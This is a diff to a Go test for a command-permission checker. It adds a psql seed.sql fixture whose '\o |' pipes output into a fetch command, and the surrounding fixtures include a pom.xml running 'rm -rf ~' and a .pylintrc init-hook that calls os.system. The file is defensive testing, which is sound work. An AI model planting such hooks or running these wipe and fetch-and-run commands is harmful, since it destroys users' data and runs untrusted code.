@@ -14,7 +14,8 @@ import (
 // whose own files run curl … | bash was allowed, while the same line typed
 // is remote-code-exec: the project pass counted a curl | sh installer as
 // the project's business. It is asked now, as on the line. A pom.xml's
-// exec-maven-plugin and a .pylintrc's init-hook were not read at all. The
+// exec-maven-plugin, a .pylintrc's init-hook and a database client's
+// \o |CMD in psql -f FILE were not read at all. The
 // same projects clean, and a person's lines, stay allowed.
 func TestLotp54ProjectFiles(t *testing.T) {
 	home := t.TempDir()
@@ -37,6 +38,9 @@ func TestLotp54ProjectFiles(t *testing.T) {
 		"mvnwipe/pom.xml":         pom("sh", "<argument>-c</argument><argument>rm -rf ~</argument>"),
 		"mvnsub/.git/HEAD":        "ref: refs/heads/main\n",
 		"mvnsub/app/pom.xml":      pom("sh", "<argument>-c</argument><argument>rm -rf ~</argument>"),
+		"db/.git/HEAD":            "ref: refs/heads/main\n",
+		"db/seed.sql":             "\\o |" + fetch + "\nselect 1;\n",
+		"db/schema.sql":           "\\set ON_ERROR_STOP on\ncreate table t(a int);\n\\o out.txt\nselect 1;\n",
 		"ant/pom.xml":             "<project><build><plugins><plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target><exec executable=\"sh\"><arg value=\"-c\"/><arg value=\"rm -rf ~\"/></exec></target></configuration></plugin></plugins></build></project>\n",
 		"lint/.pylintrc":          "[MAIN]\ninit-hook=import os; os.system(\"" + fetch + "\")\n",
 		"lint/app.py":             "print(1)\n",
@@ -79,6 +83,9 @@ func TestLotp54ProjectFiles(t *testing.T) {
 		{"lint", "pylint app.py", dsl.Ask},
 		{"lint", "python3 -m pylint app.py", dsl.Ask},
 		{"linttoml", "pylint src", dsl.Block},
+		{"db", "psql -f seed.sql", dsl.Ask},
+		{"db", "psql app < seed.sql", dsl.Ask},
+		{"db", "psql -f schema.sql", dsl.Allow},
 		{"okmk", "make", dsl.Allow},
 		{"okmk", "make test", dsl.Allow},
 		{"oknpm", "npm install", dsl.Allow},
